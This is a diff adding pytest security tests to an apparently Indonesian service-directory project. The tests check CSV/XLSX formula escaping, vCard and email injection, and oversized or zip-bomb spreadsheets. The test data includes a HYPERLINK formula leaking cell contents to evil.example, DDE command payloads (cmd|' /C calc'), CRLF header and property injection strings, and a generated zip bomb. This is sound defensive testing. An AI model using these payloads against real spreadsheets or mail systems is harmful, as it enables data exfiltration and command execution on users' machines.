@@ -4,11 +4,13 @@ from __future__ import annotations
 
 import csv
 import datetime as dt
+import io
+import json
 import shutil
 
 import pytest
 import yaml
-from conftest import ROOT, TODAY
+from conftest import ROOT, SERVICE_YML, TODAY
 
 from ruangaman import model, reference
 from ruangaman.attention import report_project
@@ -335,3 +337,169 @@ def test_months_before_is_used_for_review_period():
     from ruangaman.validate import months_before
 
     assert months_before(dt.date(2026, 11, 28), 12) == dt.date(2025, 11, 28)
+
+
+# --- trust: formulas, vCards, mail addresses, oversized sheets (issue 10, classes 10, 11) -----
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(A1)",
+    " =1+1",
+    "'=1+1",
+    "''+1",
+]
+
+
+def test_export_escapes_formulas_and_import_gives_them_back_byte_for_byte(project, tmp_path):
+    import csv as csvmod
+
+    from openpyxl import load_workbook
+
+    from ruangaman.cells import is_formula_like
+
+    for i, name in enumerate(FORMULAS):
+        project.write(
+            f"content/services/f{i}.yml",
+            SERVICE_YML.replace("name: Layanan Uji", f"name: {json.dumps(name)}"),
+        )
+    before = {p: p.read_bytes() for p in (project.root / "content").rglob("*.yml")}
+    header, rows = export_rows(project.root, "services")
+    write_csv(tmp_path / "s.csv", header, rows)
+    write_xlsx(tmp_path / "s.xlsx", header, rows, "services")
+    with (tmp_path / "s.csv").open(encoding="utf-8-sig", newline="") as f:
+        cells = [c for row in csvmod.reader(f) for c in row]
+    assert not [c for c in cells if is_formula_like(c) and not c.startswith("'")]
+    sheet = load_workbook(tmp_path / "s.xlsx").worksheets[0]
+    for row in sheet.iter_rows(min_row=2):
+        for cell in row:
+            assert cell.data_type != "f"
+            if isinstance(cell.value, str) and is_formula_like(cell.value):
+                assert cell.quotePrefix
+    for sheet_file in ("s.csv", "s.xlsx"):
+        result = import_sheet(project.root, tmp_path / sheet_file, "services", TODAY)
+        assert not result.report.errors, result.report.format("en")
+        assert result.written == []
+        after = {p: p.read_bytes() for p in (project.root / "content").rglob("*.yml")}
+        assert after == before
+
+
+def test_open_data_csv_holds_no_live_formula_and_keeps_phone_numbers(project):
+    import csv as csvmod
+
+    from ruangaman.cells import csv_cell, is_formula_like
+
+    assert csv_cell("+62 811 2345 6789", numbers_ok=True) == "+62 811 2345 6789"
+    assert csv_cell("=1+1", numbers_ok=True) == "'=1+1"
+    assert csv_cell("-1+cmd|x", numbers_ok=True).startswith("'")
+    project.write(
+        "content/services/f.yml",
+        SERVICE_YML.replace("name: Layanan Uji", 'name: "=HYPERLINK(\\"http://x.example\\")"'),
+    )
+    from ruangaman.opendata import export_files
+    from ruangaman.validate import check_project
+
+    content, area, report = check_project(project.root, today=TODAY, cache=False)
+    files = export_files(content, area)
+    rows = list(csvmod.reader(io.StringIO(files["api/services.csv"].decode())))
+    names = [row[1] for row in rows[1:]]
+    assert '\'=HYPERLINK("http://x.example")' in names
+    for row in rows[1:]:
+        for cell in row:
+            assert not is_formula_like(cell) or cell.startswith("'") or cell[0] in "+-"
+
+
+@pytest.mark.parametrize(
+    "address",
+    [
+        "Jl. A\r\nTEL:+1 555 0100",
+        "Jl. A\nEND:VCARD\nBEGIN:VCARD",
+        "Jl. A\rTEL:1",
+        "Jl. A\u2028TEL:1",
+        "Jl. A\x85TEL:1",
+        "Jl. A\x0bTEL:1",
+        "Jl; A, B \\ C",
+    ],
+)
+def test_a_vcard_value_never_starts_a_property(address):
+    from ruangaman.share import vcard
+
+    class Phone:
+        e164 = "+6281234567890"
+
+    class R:
+        data = {
+            "status": "active",
+            "name": "Layanan\r\nTEL:+1999",
+            "organization": {"name": "Org;X"},
+            "phones": [{"number": "0812", "parsed": Phone(), "type": "voice"}],
+            "location": {"address": address, "kecamatan": "A" * 200},
+            "url": "https://x.example/\r\nTEL:1",
+        }
+
+    card = vcard(R(), None)
+    lines = card.split("\r\n")
+    names = [line.split(":", 1)[0].split(";", 1)[0] for line in lines if line and line[0] != " "]
+    assert names == ["BEGIN", "VERSION", "FN", "N", "ORG", "TEL", "ADR", "URL", "END"]
+    assert all(len(line.encode()) <= 75 for line in lines)
+    assert "\n" not in card.replace("\r\n", "")
+    assert "\r" not in card.replace("\r\n", "")
+
+
+@pytest.mark.parametrize(
+    "email",
+    [
+        "a@b.example?bcc=someone@elsewhere.example",
+        "a@b.example?cc=x%40y.example",
+        "a@b.example,c@d.example",
+        "a@b.example&bcc=x",
+        "a@b.example%0Abcc:x@y.example",
+        '"a b"@c.example',
+        "a@b.example\nbcc: x@y.example",
+        "mailto:a@b.example",
+        "a@b.example#x",
+        "<a@b.example>",
+    ],
+)
+def test_email_accepts_a_plain_address_only(project, email):
+    project.write(
+        "content/services/layanan-uji.yml",
+        SERVICE_YML.replace("name: Layanan Uji", f"name: Layanan Uji\nemail: {json.dumps(email)}"),
+    )
+    from ruangaman.validate import check_project
+
+    _, _, report = check_project(project.root, today=TODAY, cache=False)
+    assert any(p.field == "email" for p in report.errors), email
+
+
+def test_an_xlsx_bomb_and_a_huge_csv_are_refused_with_a_message(project, tmp_path, monkeypatch):
+    import zipfile
+
+    from ruangaman import spreadsheet
+
+    bomb = tmp_path / "bomb.xlsx"
+    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
+        z.writestr("xl/worksheets/sheet1.xml", b"\0" * (spreadsheet.MAX_UNCOMPRESSED + 1))
+    result = import_sheet(project.root, bomb, "services", TODAY)
+    assert [p.code for p in result.report.errors] == ["sheet_too_large"]
+    assert "MB" in result.report.format("en")
+
+    monkeypatch.setattr(spreadsheet, "MAX_ROWS", 50)
+    many = tmp_path / "many.csv"
+    many.write_text("name.id\n" + "".join(f"Layanan {i}\n" for i in range(60)))
+    result = import_sheet(project.root, many, "services", TODAY)
+    problem = result.report.errors[0]
+    assert problem.code == "sheet_too_many_rows" and problem.line == 52
+    assert result.written == []
+
+    header, rows = export_rows(project.root, "services")
+    write_xlsx(tmp_path / "big.xlsx", header, rows * 60, "services")
+    result = import_sheet(project.root, tmp_path / "big.xlsx", "services", TODAY)
+    assert [p.code for p in result.report.errors] == ["sheet_too_many_rows"]
